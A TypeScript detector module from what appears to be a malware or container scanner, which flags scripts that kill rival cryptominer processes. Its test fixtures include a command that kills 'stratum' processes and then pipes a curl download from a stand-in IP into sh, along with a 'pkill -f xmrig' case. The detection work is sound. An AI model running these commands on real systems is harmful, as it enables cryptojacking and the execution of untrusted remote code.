import { killsMiners } from '../trace/effects/impair.ts';
import { literals } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { payloadOf } from './payload.ts';
import { chainOf, findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Clearing out other people's miners. */
export const rivalKilling: Detector = {
  id: 'rival-killing',
  version: 1,
  title: 'Ends the miners of others.',
  attack: ['T1562.001', 'T1489'],
  description: `
Miners compete for the processor: a script that kills processes by the names of miners or pools usually makes room for its
own. *Malicious* together with a payload in the same script, *suspicious* alone (a clean-up tool does it as well).
`,
  fires: [
    {
      name: 'by pool address, then its own download',
      image: {
        cmd: [
          'sh',
          '-c',
          "ps aux | grep stratum | awk '{print $2}' | xargs kill -9; curl -s http://203.0.113.9/x.sh | sh",
        ],
      },
    },
    { name: 'alone', severity: 'suspicious', image: { cmd: ['sh', '-c', 'pkill -f xmrig; exec app'] } },
  ],
  silent: [
    { name: 'an ordinary process', image: { cmd: ['sh', '-c', 'pkill -f gunicorn; exec app'] } },
    { name: 'by process id', image: { cmd: ['sh', '-c', 'kill -TERM "$child"'] } },
  ],
  detect(scene) {
    return effectsOf(scene, 'kill').flatMap((effect) => {
      if (!killsMiners(literals(effect.pattern))) return [];
      const sighting = sightingOf(scene, effect);
      const outer = chainOf(scene.story, sighting.stage)[0];
      const payload = payloadOf(scene, outer?.id);
      return findingOf(scene, sighting, {
        threat: payload ? 'hostile' : 'dual-use',
        title: `Ends the miners of others (${valueWords(effect.pattern, 80)})`,
        because: payload
          ? `The same code runs ${payload.what}.`
          : 'It makes room for another miner, or cleans up after one.',
        effects: [effect.id],
      });
    });
  },
};
